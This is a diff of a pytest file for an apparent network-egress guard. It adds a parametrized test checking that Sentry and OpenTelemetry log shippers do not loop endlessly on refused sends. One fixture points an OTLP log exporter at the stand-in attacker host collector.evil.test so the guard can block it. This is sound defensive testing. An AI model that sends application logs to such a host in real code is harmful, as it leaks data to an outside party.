@@ -148,9 +148,36 @@ def test_refused_and_named(lab: Lab, package: Package) -> None:
     assert outcome.wire.lines() == [], outcome
 
 
-def test_sentry_does_not_feed_on_the_guards_own_log(lab: Lab) -> None:
-    outcome = lab.run(SENTRY.format(before="") + "time.sleep(1)", guard=True)
-    assert 0 < len(outcome.report["violations"]) < 20, len(outcome.report["violations"])  # not hundreds, and it ends
+# Shippers of log records, which are refused for each record and get one for each refusal.
+FEEDING = {
+    "sentry-sdk": SENTRY.format(before="") + "time.sleep(1)",
+    "opentelemetry logs": """
+import logging
+from opentelemetry.exporter.otlp.proto.http._log_exporter import OTLPLogExporter
+from opentelemetry.sdk._logs import LoggerProvider, LoggingHandler
+from opentelemetry.sdk._logs.export import BatchLogRecordProcessor
+provider = LoggerProvider()
+exporter = OTLPLogExporter(endpoint="https://collector.evil.test:4318/v1/logs", timeout=1)
+provider.add_log_record_processor(BatchLogRecordProcessor(exporter, schedule_delay_millis=50))
+logging.getLogger().addHandler(LoggingHandler(logger_provider=provider))
+logging.getLogger("application").error("work")
+time.sleep(3)
+""",
+}
+# What it would be if every refusal were logged, so that the test below is known to look at the right thing.
+EVERY_TIME = """
+from egressguard import _report
+_report._times = lambda violation: 1
+"""
+
+
+@pytest.mark.parametrize("shipper", FEEDING)
+def test_a_log_shipper_does_not_feed_on_what_it_is_refused(lab: Lab, shipper: str) -> None:
+    outcome = lab.run(FEEDING[shipper], guard=True)
+    assert 0 < len(outcome.report["violations"]) < 20, len(outcome.report["violations"])
+    assert outcome.wire.lines() == [], outcome
+    fed = lab.run(EVERY_TIME + FEEDING[shipper], guard=True)
+    assert len(fed.report["violations"]) > 20, len(fed.report["violations"])
 
 
 def test_grpc_is_native_and_leaves_by_the_python_layer_alone(lab: Lab) -> None:
